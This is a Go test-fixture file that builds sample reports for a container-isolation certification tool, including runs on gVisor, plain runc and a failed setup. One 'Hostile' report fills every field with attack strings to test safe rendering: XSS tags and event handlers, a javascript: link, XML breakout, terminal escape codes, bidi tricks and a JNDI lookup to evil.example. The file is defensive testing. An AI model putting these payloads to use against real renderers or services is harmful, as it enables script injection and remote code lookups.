// Package sample makes reports for tests: of plausible runs, of hostile pods,
// and of any size.
package sample

import (
	"fmt"
	"strings"
	"time"

	"github.com/katacert/katacert/probes/evidence"
	"github.com/katacert/katacert/reports"
	"github.com/katacert/katacert/suites/judge"
)

// Began is when every sample run started.
var Began = time.Date(2026, 3, 14, 9, 26, 53, 0, time.UTC)

const (
	hostBoot  = "4d5e3d8e-0a6c-4d1c-9a39-6f3f1a0b7c11"
	guestBoot = "b0c1f5a2-7d7e-4f0a-8c55-2f1d9f6f5e02"
)

// Sandboxed is a run on a gVisor-like sandbox: one finding, one control not
// applicable, the rest passed.
func Sandboxed() *reports.Report {
	r := base("worker-1/gvisor", "gvisor", "runsc")
	r.Targets[0].Parts = nil
	r.Targets[0].Runtime = reports.Runtime{Kind: judge.KindUserKernel, Shim: "containerd-shim-runsc-v1", Digest: strings.Repeat("5e", 32)}
	answer(r, "kernel-boot-id", judge.Pass, "reference read the boot_id of the host; subject read another boot_id", compared("boot_id", hostBoot, guestBoot, false))
	answer(r, "kernel-notes-build-id", judge.NotApplicable, "subject has no such interface: /sys/kernel/notes does not exist")
	answer(r, "proc-planted", judge.Pass, "weakened/host-pid found the planted process; subject did not", compared("argv", "katacert-7f3a", "not found", false))
	answer(r, "priv-posture", judge.Fail, "subject runs without a seccomp filter", expected("seccomp", "2 (filter)", "0 (disabled)", true))
	answer(r, "tenant-kernel", judge.Pass, "reference read the boot_id of the host; neighbour read another boot_id", compared("boot_id", guestBoot, "e6d0a1c4-53b0-4a8a-93c8-08a5f0a9cd10", false))
	answer(r, "training-converges", judge.Pass, "loss fell from 2.31 to 0.18 in 40 steps", expected("loss", "at most 1.15", "0.18", false))
	r.Figures = figures(r.Targets[0].ID)
	r.Conclude()
	return r
}

// Plain is a run on a sandbox that is plain runc: nothing is isolated.
func Plain() *reports.Report {
	r := base("worker-1/runc", "runc", "runc")
	r.Targets[0].Parts = nil
	r.Targets[0].Runtime = reports.Runtime{Kind: judge.KindNone, Shim: "containerd-shim-runc-v2", Digest: strings.Repeat("c4", 32)}
	answer(r, "kernel-boot-id", judge.Fail, "subject read the boot_id of the host", compared("boot_id", hostBoot, hostBoot, true))
	answer(r, "kernel-notes-build-id", judge.Fail, "subject read the build id of the host's kernel", compared("build_id", "9f86d081884c7d65", "9f86d081884c7d65", true))
	answer(r, "proc-planted", judge.Invalid, "the control vantage weakened/host-pid did not find the planted process, so this probe was not shown able to fail on this node",
		judge.Comparison{Reading: "argv", Truth: "katacert-7f3a", Control: "not found", Subject: "not found"})
	answer(r, "priv-posture", judge.Fail, "subject runs without a seccomp filter", expected("seccomp", "2 (filter)", "0 (disabled)", true))
	answer(r, "tenant-kernel", judge.Fail, "neighbour read the boot_id of subject", compared("boot_id", hostBoot, hostBoot, true))
	answer(r, "training-converges", judge.Error, "trainer gave no evidence in round look")
	r.Conclude()
	return r
}

// Dead is a run whose set-up failed before it knew its targets.
func Dead() *reports.Report {
	r := base("", "", "")
	r.Targets, r.Timings, r.Notices, r.Skipped = nil, nil, nil, nil
	r.Run.SetupError = "connect to the cluster https://192.0.2.1:6443: connection refused"
	r.Conclude()
	return r
}

// Hostile is a run in which every text that a pod has a part in is an attack on
// the reader's terminal, browser, XML parser or Markdown renderer.
func Hostile() *reports.Report {
	r := Plain()
	small := Attacks[:len(Attacks)-1]
	everything := strings.Join(small, " ")
	for i := range r.Verdicts {
		v := &r.Verdicts[i]
		v.Reason = Attacks[i%len(Attacks)]
		v.Compared = []judge.Comparison{{Reading: everything, Truth: everything, Control: everything, Subject: everything, Match: true}}
		for _, attack := range small {
			v.Compared = append(v.Compared, judge.Comparison{Reading: attack, Truth: attack, Control: attack, Subject: attack, Match: i%2 == 0})
		}
	}
	megabyte := Attacks[len(Attacks)-1]
	r.Verdicts[0].Compared[0].Subject = megabyte
	r.Verdicts[1].Reason = megabyte
	r.Notices = append(r.Notices, megabyte)
	r.Notices = append(r.Notices, everything)
	r.Leftovers = []string{everything}
	r.Skipped = append(r.Skipped, reports.Skip{What: everything, Why: everything})
	target := &r.Targets[0]
	target.RuntimeClass, target.Handler = everything, everything
	target.Node = reports.Node{Name: everything, Kernel: everything, OS: everything, Architecture: everything, ContainerRuntime: everything, Kubelet: everything}
	target.Runtime.Shim, target.Runtime.Digest = everything, everything
	target.Parts = []reports.Part{{Role: everything, Path: everything, Version: everything, From: everything, SHA256: everything}}
	r.Cluster = reports.Cluster{Provider: everything, Name: everything, Server: everything, Kubernetes: everything}
	for i := range r.Images {
		r.Images[i].Ref, r.Images[i].Digest = everything, everything
	}
	r.Run.Interrupted = everything
	r.Figures = append(r.Figures, reports.Figure{Name: everything, Target: r.Targets[0].ID, Vantage: evidence.Vantage(everything), Unit: everything, Samples: []float64{0, 1e300, -1}},
		reports.Figure{Name: everything, Target: everything, Vantage: evidence.Vantage(everything), Unit: everything, Over: everything, Samples: []float64{0, 1e300, -1}})
	r.Timings = append(r.Timings, reports.Timing{Phase: everything, Target: r.Targets[0].ID, Started: Began, Duration: time.Second})
	return r
}

// Attacks are texts as a hostile pod may send them; the last is a megabyte.
var Attacks = []string{
	`<script>document.title="owned"</script>`,
	`"><img src=x onerror='document.title="owned"'>`,
	`]]><failure/></testsuite>`,
	"\x1b[31mred\x1b]0;owned\x07\u009b2J\x00\r\n\b",
	"\u202e\u2066lagel\u2069\u202c\u200b\ufeff\u2028",
	"`code` | cell | **bold** [link](javascript:alert(1)) ![i](http://evil.example/x.png) <b> @team #1 http://evil.example/ \\| \\",
	"{{.Run.ID}} ${jndi:ldap://evil.example} <!-- --> &lt;script&gt; </style></script><svg onload=alert(1)>",
	"\ufffd\ufffe\U000e0041 # heading\n\n# heading\n- [ ] task",
	strings.Repeat("A<b>\"'&", 1<<17),
}

// Large is a run of any size with verdicts of every result, to measure with.
func Large(targets, controls int) *reports.Report {
	r := Sandboxed()
	template := r.Controls
	r.Controls, r.Targets, r.Verdicts, r.Timings, r.Figures = nil, nil, nil, nil, nil
	for i := range controls {
		c := template[i%len(template)]
		c.ID = fmt.Sprintf("%s-%03d", c.ID, i)
		r.Controls = append(r.Controls, c)
	}
	for i := range targets {
		name := fmt.Sprintf("worker-%04d", i)
		r.Targets = append(r.Targets, target(name+"/kata-runtime", name, "kata-runtime", "kata"))
		r.Timings = append(r.Timings, timings(name+"/kata-runtime", Began.Add(time.Duration(i)*time.Second))...)
		r.Figures = append(r.Figures, figures(name+"/kata-runtime")...)
		for j, c := range r.Controls {
			r.Verdicts = append(r.Verdicts, verdictOf(i, j, c.ID, name))
		}
	}
	r.Conclude()
	return r
}

func verdictOf(i, j int, control, node string) reports.Verdict {
	result, reason := judge.Pass, "reference read the boot_id of the host; subject read another boot_id"
	boot := fmt.Sprintf("4d5e3d8e-0a6c-4d1c-9a39-%012d", i)
	seen := guestBoot
	switch {
	case j == 7:
		result, reason = judge.NotApplicable, "subject has no such interface: /sys/kernel/notes does not exist"
	case i%97 == 13 && j%3 == 0:
		result, reason, seen = judge.Fail, "subject read the boot_id of the host", boot
	case i%89 == 5 && j == 11:
		result, reason = judge.Error, "subject gave no evidence in round look"
	}
	rests := []judge.Basis{}
	for _, vantage := range []evidence.Vantage{evidence.Witness, evidence.Reference, evidence.Subject} {
		rests = append(rests, judge.Basis{Vantage: vantage, Round: evidence.Look, Probe: "kernel-boot-id", State: evidence.Seen})
	}
	return reports.Verdict{Control: control, Target: node + "/kata-runtime", Verdict: judge.Verdict{Result: result, Reason: reason, Rests: rests,
		Compared: []judge.Comparison{{Reading: "boot_id", Truth: boot, Control: boot, Subject: seen, Match: seen == boot}}}}
}
